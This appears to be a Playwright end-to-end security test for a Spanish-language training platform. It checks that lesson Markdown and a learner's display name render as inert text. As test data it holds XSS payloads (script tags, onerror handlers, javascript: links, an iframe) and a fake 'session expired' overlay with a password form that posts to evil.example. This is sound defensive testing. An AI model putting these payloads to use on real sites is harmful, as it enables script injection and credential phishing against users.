import { randomUUID } from 'node:crypto';
import type { Browser } from 'playwright-core';
import { course, likertAnswers, modulesInOrder } from '../support/course-player';
import { launchChromium } from '../support/browser';
import { spawnApp, type SpawnedApp } from '../support/spawn-app';
import { createTestDatabase, type TestDatabase } from '../support/test-database';

jest.setTimeout(120_000);

const HOSTILE_MARKDOWN = `

<script>window.__xss = 'script'</script>
<img src="x" onerror="window.__xss = 'img'">
[un enlace](javascript:window.__xss='link')
<iframe src="javascript:window.__xss='iframe'"></iframe>
<style>main { display: none }</style>
<div style="position:fixed;inset:0;z-index:9999;background:white">Su sesión expiró. Vuelva a ingresar.</div>
<form action="https://evil.example/"><input name="password" type="password"><button>Ingresar</button></form>
`;
const HOSTILE_NAME = `<img src=x onerror="window.__xss='name'">Ana`;

/** Stored text — a lesson an author saved with markup, a learner's chosen name — renders as text, never as code. */
describe('browser: stored Markdown and names never execute script', () => {
  let db: TestDatabase;
  let app: SpawnedApp;
  let browser: Browser;

  const api = async (path: string, init: { method?: string; token?: string; body?: unknown } = {}) => {
    const res = await fetch(`${app.url}${path}`, {
      method: init.method ?? 'GET',
      headers: { 'Content-Type': 'application/json', ...(init.token ? { Authorization: `Bearer ${init.token}` } : {}) },
      body: init.body === undefined ? undefined : JSON.stringify(init.body),
    });
    const text = await res.text();
    if (!res.ok) throw new Error(`${path} → ${res.status} ${text}`);
    return text ? JSON.parse(text) : null;
  };

  beforeAll(async () => {
    db = await createTestDatabase();
    app = await spawnApp({ DATABASE_URL: db.url, DATABASE_POOL_SIZE: String(db.poolSize), DATABASE_MODE: db.mode, NODE_ENV: 'test', SEED_DEMO: 'accounts', JWT_SECRET: 'xss-test-secret-xss-test-secret-0123456789' });
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await app?.stop();
    await db?.drop();
  });

  it('renders a hostile lesson and a hostile name as inert text', async () => {
    // An author publishes a lesson whose Markdown carries script, event handlers, javascript: links and an iframe.
    const admin = (await api('/api/auth/login', { method: 'POST', body: { email: 'admin@respeta.demo', password: 'respeta-admin-demo' } })).accessToken;
    const [summary] = await api('/api/courses', { token: admin });
    const draft = await api(`/api/courses/${summary.id}/draft`, { method: 'POST', token: admin });
    const module = modulesInOrder()[0];
    const lesson = module.lessons[0];
    await api(`/api/course-versions/${draft.id}/lessons/${lesson.key}`, {
      method: 'PATCH', token: admin, body: { body: { es: lesson.body.es + HOSTILE_MARKDOWN, en: lesson.body.en + HOSTILE_MARKDOWN } },
    });
    await api(`/api/course-versions/${draft.id}/publish`, { method: 'POST', token: admin, body: { changeNote: { es: 'Prueba de seguridad', en: 'Security test' } } });

    // A learner whose chosen name is markup joins (pinned to the new version) and reaches the lesson.
    const email = `xss.${randomUUID().slice(0, 6)}@pnp.gob.pe`;
    await api('/api/auth/register', {
      method: 'POST',
      body: { inviteCode: 'DEMO-2026', email, displayName: HOSTILE_NAME, password: 'frase larga de prueba 2026', positionType: 'police', region: 'lima' },
    });
    const { accessToken: token } = await api('/api/auth/login', { method: 'POST', body: { email, password: 'frase larga de prueba 2026' } });
    const [enrolment] = await api('/api/enrolments/mine', { token });
    const post = (path: string, body: object = {}) => api(`/api/enrolments/${enrolment.id}${path}`, { method: 'POST', token, body: { idempotencyKey: randomUUID(), ...body } });
    await post('/consent', { evaluationUse: true });
    await post('/assessments/pre/knowledge', { answers: {} });
    await post('/assessments/pre/attitude', { answers: likertAnswers(3) });

    const context = await browser.newContext({ viewport: { width: 360, height: 740 } });
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
    await page.goto(`${app.url}/login`);
    await page.getByLabel('Correo electrónico').fill(email);
    await page.getByLabel('Contraseña').fill('frase larga de prueba 2026');
    await page.getByRole('button', { name: 'Ingresar' }).click();
    await page.getByText(HOSTILE_NAME, { exact: false }).first().waitFor();

    await page.goto(`${app.url}/learn/${enrolment.id}/modules/${module.key}/lessons/${lesson.key}`);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    // The lesson's text (it loads its Markdown reader with it): the hostile part is there, as words.
    await page.locator('main .prose').getByText('Su sesión expiró', { exact: false }).first().waitFor();
    await page.waitForTimeout(500);
    const state = await page.evaluate(() => ({
      xss: (window as unknown as { __xss?: string }).__xss,
      scripts: document.querySelectorAll('main script').length,
      handlers: [...document.querySelectorAll('main *')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
      javascriptLinks: [...document.querySelectorAll('main a')].filter((a) => (a.getAttribute('href') ?? '').toLowerCase().startsWith('javascript:')).length,
      iframes: document.querySelectorAll('main iframe').length,
      // No lesson can restyle the page, overlay it or collect passwords (sanitiser allow-list; CSP as second lock).
      styles: document.querySelectorAll('main style, main .prose [style], main form, main input').length,
      fixed: [...document.querySelectorAll('main .prose *')].filter((el) => getComputedStyle(el).position === 'fixed').length,
    }));
    expect(state).toEqual({ xss: undefined, scripts: 0, handlers: 0, javascriptLinks: 0, iframes: 0, styles: 0, fixed: 0 });
    expect(dialogs).toEqual([]);
    expect(course().modules.length).toBeGreaterThan(0);
    await context.close();
  });
});
